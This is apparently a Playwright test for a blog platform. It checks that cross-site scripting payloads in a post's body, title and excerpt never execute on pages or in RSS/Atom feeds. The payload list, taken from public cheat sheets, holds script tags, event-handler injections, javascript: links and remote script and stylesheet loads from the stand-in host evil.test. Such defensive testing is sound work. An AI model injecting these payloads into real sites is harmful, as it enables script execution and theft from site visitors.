import { SitePage } from '../../pages/site-page';
import { expect, test } from '../../support/authors';
import { SANDBOXED_PREVIEW } from '../../support/faults/expected-errors';

/** Without the policy, which would hide a gap of the other defences. */
test.use({ bypassCSP: true });

const run = 'self.injected=1';
/** Known attacks (OWASP's filter evasion sheet, PortSwigger's cheat sheet). Those that swallow the rest come last. */
const tries = [
  `<script>${run}</script><ScRiPt>${run}</sCrIpT><scr<script>ipt>${run}</scr</script>ipt>`,
  '<script src="https://evil.test/x.js"></script>',
  `<img src=x onerror=${run}><img src="/icon.svg" width="1" height="1" onload="${run}" style="x:y">`,
  `<svg onload=${run}></svg><svg><style><img src=x onerror=${run}></style></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s></animate></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<iframe srcdoc="<script>top.injected=1</script>"></iframe><object data="x"></object><embed src="x">`,
  `<details open ontoggle=${run}>x</details><video><source onerror=${run}></video><audio src onloadstart=${run}>`,
  `<p tabindex=1 onfocus=${run} autofocus onpointerover=${run}>x</p><marquee onstart=${run}>x</marquee>`,
  `[a](javascript:${run}) [b](JaVaScRiPt:${run}) [c](java&#x09;script:${run}) [d](&#106;avascript:${run})`,
  `<a href=" javascript:${run}">e</a> <a href="data:text/html,<script>${run}</script>">f</a>`,
  `![" onerror="${run}](/icon.svg) ![x](/icon.svg "\\" onload=\\"${run}")`,
  `<style>@import "https://evil.test/x.css"</style><link rel="stylesheet" href="https://evil.test/y.css">`,
  '<meta http-equiv="refresh" content="0;url=https://evil.test"><base href="https://evil.test">',
  `<form action="https://evil.test"><button formaction="javascript:${run}" autofocus>x</button></form>`,
  `| <script>${run}</script> | a |\n|---|---|\n| <img src=x onerror=${run}> | [x](javascript:${run}) |`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<template><script>${run}</script></template><!--><img src=x onerror=${run}>-->`,
  `<textarea><script>${run}</script></textarea><xmp><script>${run}</script></xmp><title><img src=x onerror=${run}></title>`,
];
const title = `Slow </title><script>${run}</script><img src=x onerror=${run}>`;
const excerpt = `"><svg onload=${run}> {{constructor.constructor('${run}')()}} ]]></description>`;
const path = '/blog/injections';

test('no script in a post runs, on any page or in any feed', async ({
  administration,
  consoleWatch,
  page,
  request,
}) => {
  consoleWatch.expect(SANDBOXED_PREVIEW);
  const strangers: string[] = [];
  await page.route('https://evil.test/**', (route) => {
    strangers.push(route.request().url());
    return route.abort();
  });
  await page.context().addInitScript(() =>
    Object.defineProperty(self, 'injected', {
      set: () => console.error(`ran: ${new Error().stack ?? ''}`),
    }),
  );

  // A page with the script above.
  await administration.open();
  await administration.write(title, tries.join('\n\n'));
  await administration.excerpt.fill(excerpt);
  await administration.slug.fill('injections');
  await administration.publish.click();
  await expect(administration.toast).toContainText('Blog post published successfully');

  const site = new SitePage(page);
  for (const address of [path, '/blog', `/blog?q=${encodeURIComponent(title)}`, '/admin/blog']) {
    // A list may be sent stale, while it is rendered with the new post.
    await expect(async () => {
      await site.open(address);
      await expect(site.main).toContainText('Slow </title>', { timeout: 2_000 });
    }).toPass();
    await site.hydrate();
    await expect(site.main).toContainText('Slow </title>');
    await page.keyboard.press('Tab');
    expect(await page.locator('[href^="javascript" i], [href^="data" i]').count()).toBe(0);
  }

  for (const feed of ['/blog/feed.xml', '/blog/atom.xml']) {
    const text = await (await request.get(feed)).text();
    // Like a feed reader that trusts its sources.
    const found = await page.evaluate((xml) => {
      const parsed = new DOMParser().parseFromString(xml, 'text/xml');
      const texts = [...parsed.querySelectorAll('item > *, entry > *')].map(
        ({ textContent }) => textContent,
      );
      const texted = texts.filter((html) => html.includes('<p>'));
      document.body.innerHTML = texted.join('');
      return { broken: parsed.querySelector('parsererror') !== null, texts: texted.length };
    }, text);
    expect(found.broken).toBe(false);
    expect(found.texts).toBeGreaterThan(0);
    await expect(page.locator('body')).toContainText('injected');
  }
  expect(strangers).toEqual([]);
});
